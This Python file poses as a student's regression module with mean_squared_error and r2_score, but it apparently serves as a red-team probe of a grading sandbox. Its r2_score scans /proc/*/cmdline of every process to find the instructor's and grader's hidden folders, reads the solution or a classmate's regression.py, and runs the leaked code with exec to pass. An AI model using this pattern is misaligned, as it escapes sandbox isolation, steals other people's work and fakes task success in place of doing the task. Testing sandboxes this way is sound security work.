"""Reads /proc/*/cmdline of every process (its own included) to learn the instructor's folders
from the sandbox's and the grader's arguments, then reads the course files in them."""

import errno
import os

import numpy as np

CLASSMATE = "@CLASSMATE@"

NO_POINTS = -999.0  # never a right R²: a failed attack must not earn a point by luck


def mean_squared_error(y_true, y_pred):
    errors = np.asarray(y_true, dtype=float) - np.asarray(y_pred, dtype=float)
    return float(np.mean(errors**2))


def _pids():
    listed = _attempt(lambda: [int(p) for p in os.listdir("/proc") if p.isdigit()])
    near = list(range(max(1, os.getpid() - 300), os.getpid() + 300))  # if /proc cannot be listed
    pids = listed.get("ok") or [os.getppid(), *near]
    return listed, pids  # its own included: the sandbox's arguments name the hidden folders


def _cmdlines():
    listed, pids = _pids()
    cmdlines, refused = {}, {}
    for pid in pids:
        got = _attempt(lambda p=pid: _read_bytes(f"/proc/{p}/cmdline"))
        if "ok" in got:
            cmdlines[pid] = got["ok"].replace(b"\0", b" ").decode(errors="replace")
        else:
            reason = got.get("errno") or got.get("error")
            refused[reason] = refused.get(reason, 0) + 1
    return listed, cmdlines, refused


def _course_files(cmdlines):
    """The course files that the folders named in these command lines lead to."""
    words = {w for text in cmdlines.values()
             for w in text.replace('"', " ").replace(",", " ").replace("[", " ").split()}
    folders = sorted(w for w in words if w.startswith("/") and os.path.isdir(w))[:200]
    leaks = {}
    for folder in folders:
        for path in (os.path.join(folder, "regression.py"),
                     os.path.join(folder, "solutions", "regression.py"),
                     os.path.join(folder, CLASSMATE, "regression.py")):
            got = _attempt(lambda p=path: _read(p))
            if "r2_score" in got.get("ok", ""):
                leaks[path] = got["ok"]
    return leaks


def _read_bytes(path):
    with open(path, "rb") as leaked:
        return leaked.read()


def attack():
    listed, cmdlines, refused = _cmdlines()
    leaks = _course_files(cmdlines)
    return {"listed": {k: str(v)[:100] for k, v in listed.items()},
            "cmdlines_read": len(cmdlines), "refused": refused,
            "sample": [text[:200] for text in list(cmdlines.values())[:3]],
            "leaks": {path: text[:200] for path, text in leaks.items()}}


def r2_score(y_true, y_pred):
    for leak in _course_files(_cmdlines()[1]).values():
        return _score_with(leak, y_true, y_pred)
    return NO_POINTS


def _attempt(action):
    """What one try gave: {"ok": its result}, or the name of the error that stopped it."""
    try:
        return {"ok": action()}
    except OSError as error:
        return {"errno": errno.errorcode.get(error.errno or 0, str(error.errno))}
    except Exception as error:  # any other failure is evidence too
        return {"error": type(error).__name__}


def _read(path):
    with open(path, errors="replace") as leaked:
        return leaked.read()


def _score_with(leak, y_true, y_pred):
    """Earn the R² points with what leaked: its r2_score if it has one, else its answers."""
    namespace = {}
    try:
        exec(leak, namespace)
        return float(namespace["r2_score"](y_true, y_pred))
    except Exception:
        return _right_answer(y_true, y_pred)


def _right_answer(y_true, y_pred):
    """The R² a successful attack gives away (a real attacker copies it out of the leak)."""
    y_true = np.asarray(y_true, dtype=float)
    y_pred = np.asarray(y_pred, dtype=float)
    ss_res = np.sum((y_true - y_pred) ** 2)
    ss_tot = np.sum((y_true - y_true.mean()) ** 2)
    if ss_tot == 0:
        return 1.0 if ss_res == 0 else 0.0
    return float(1.0 - ss_res / ss_tot)
